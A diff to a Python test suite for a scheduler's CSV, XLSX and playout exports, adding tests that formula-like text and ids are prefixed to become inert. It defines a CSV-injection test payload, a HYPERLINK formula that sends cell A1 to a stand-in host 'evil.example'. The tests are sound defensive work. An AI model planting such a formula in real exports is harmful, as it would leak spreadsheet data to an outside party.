@@ -18,6 +18,7 @@ from hypothesis import strategies as st
 
 from scheduler.reports.charts import compliance_by_unit, delivery_by_hour
 from scheduler.reports.exports import write_csv, write_pdf, write_xlsx
+from scheduler.reports.formulas import inert
 from scheduler.reports.playout import PLAYOUT_FIELDS, write_playout_csv
 from scheduler.reports.table import Column, Report, Sheet
 
@@ -133,18 +134,30 @@ def test_csv_datetimes_read_as_python_writes_them_in_any_timezone_across_its_clo
     assert [row[0] for row in rows[1:]] == expected
 
 
-def test_ids_are_written_unchanged_and_unchecked_in_the_csv():
-    columns = [Column("screen", "Màn hình", "Screen", "id"), Column("name", "Tên", "Name", "text")]
+def test_ids_are_made_inert_as_any_text_and_numbers_stay_numbers_in_the_csv():
+    # Issue 16, item 5: ids were written unchecked, so a player's campaign id "=HYPERLINK(...)" came out live.
+    columns = [Column("screen", "Màn hình", "Screen", "id"), Column("name", "Tên", "Name", "text"),
+               Column("plays", "Lượt", "Plays", "int")]
     report = make_report()
-    report.sheets = [Sheet("Màn hình", columns, [{"screen": "-1", "name": "-1"}])]
+    report.sheets = [Sheet("Màn hình", columns, [{"screen": "-1", "name": "-1", "plays": -1},
+                                                  {"screen": FORMULA, "name": "@x", "plays": 2}],
+                           {"screen": "+totals", "plays": -3})]
     _, rows = csv_rows(report)
-    assert rows[1] == ["-1", "'-1"]
+    assert rows[1:] == [["'-1", "'-1", "-1"], ["'" + FORMULA, "'@x", "2"], ["'+totals", "", "-3"]]
 
 
 def test_the_decimal_comma_variant_separates_fields_with_semicolons_for_a_vietnamese_excel():
     data, rows = csv_rows(make_report(), decimal_comma=True)
     assert data.decode("utf-8-sig").splitlines()[1] == "Phường Phú La;12;1180;97,5"
     assert rows[-1] == ["Tổng cộng", "23", "1820", "91,2"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_inert_prefixes_text_starting_like_a_formula_and_leaves_everything_else():
+    assert [inert(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "'=1", "", None, -1, 2.5)] == [
+        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "'=1", "", None, -1, 2.5]
 
 
 def test_a_text_starting_like_a_formula_is_made_inert_in_the_csv():
@@ -187,7 +200,7 @@ def test_any_texts_and_numbers_read_back_as_written(cells):
     def guarded(text):
         return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text
 
-    assert rows[1:] == [[guarded(a or ""), "" if n is None else str(n), i or ""] for a, n, i in cells]
+    assert rows[1:] == [[guarded(a or ""), "" if n is None else str(n), guarded(i or "")] for a, n, i in cells]
 
 
 def test_a_row_missing_a_column_is_refused_naming_the_column_and_the_fix():
@@ -300,7 +313,27 @@ def test_a_text_starting_with_an_equals_sign_stays_text_in_the_xlsx(tmp_path):
     path = tmp_path / "r.xlsx"
     write_xlsx(make_report(rows=[{"unit": "=1+1", "screens": 1, "delivered": 1, "compliance": 1.0}]), path)
     cell = openpyxl.load_workbook(path)["Theo phường"]["A2"]
-    assert cell.value == "=1+1" and cell.data_type == "s"
+    assert cell.value == "'=1+1" and cell.data_type == "s"
+
+
+def test_every_xlsx_text_and_id_starting_like_a_formula_is_made_inert_and_numbers_stay_numbers(tmp_path):
+    # Issue 16, item 5: before, only "=" was kept as text (unprefixed), "+", "-", "@" were written as typed, and
+    # the information sheet's organisation "=..." became a live formula.
+    columns = [Column("screen", "Màn hình", "Screen", "id"), Column("name", "Tên", "Name", "text"),
+               Column("plays", "Lượt", "Plays", "int")]
+    report = make_report()
+    report.organisation = FORMULA
+    report.notes = ["-ghi chú"]
+    report.sheets = [Sheet("Màn hình", columns, [{"screen": FORMULA, "name": "@x", "plays": -1},
+                                                  {"screen": "-1", "name": "+84 912", "plays": 2}])]
+    path = tmp_path / "r.xlsx"
+    write_xlsx(report, path)
+    book = openpyxl.load_workbook(path)
+    cells = [[(c.value, c.data_type) for c in row] for row in book["Màn hình"].iter_rows(min_row=2)]
+    assert cells == [[("'" + FORMULA, "s"), ("'@x", "s"), (-1, "n")], [("'-1", "s"), ("'+84 912", "s"), (2, "n")]]
+    information = [(c.value, c.data_type) for row in book["Thông tin"].iter_rows() for c in row if c.value]
+    assert ("'" + FORMULA, "s") in information and ("'-ghi chú", "s") in information
+    assert not [value for value, kind in information if kind == "f"]
 
 
 def test_a_sheet_longer_than_a_worksheet_continues_on_the_next_with_the_header_again(tmp_path):
@@ -486,6 +519,17 @@ def test_playout_uses_space_frame_and_buyer_ids_when_given():
                           space_brand_id=7)
     fields = dict(zip(PLAYOUT_FIELDS, record, strict=True))
     assert (fields["frameid"], fields["spacebuyerid"], fields["spacebrandid"]) == ("1234567", "42", "7")
+
+
+def test_playout_text_fields_starting_like_a_formula_are_made_inert_and_numbers_stay_numbers():
+    # Issue 16, item 5: before, every field was written as it came.
+    _, [record] = playout([play(player_id="-scr", campaign_id=FORMULA, campaign_name="@Chiến dịch", media="+ab",
+                                media_name="=1+1.mp4", play_id="-1")])
+    fields = dict(zip(PLAYOUT_FIELDS, record, strict=True))
+    assert [fields[f] for f in ("frameid", "orderid", "buyercampaignref", "creativeid", "creativename",
+                                "playerref", "mediaownerplayoutref")] == [
+        "'-scr", "'" + FORMULA, "'@Chiến dịch", "'+ab", "'=1+1.mp4", "'-scr", "'-1"]
+    assert fields["spotlength"] == "30012"
 
 
 def test_only_completed_plays_of_campaigns_are_playouts():
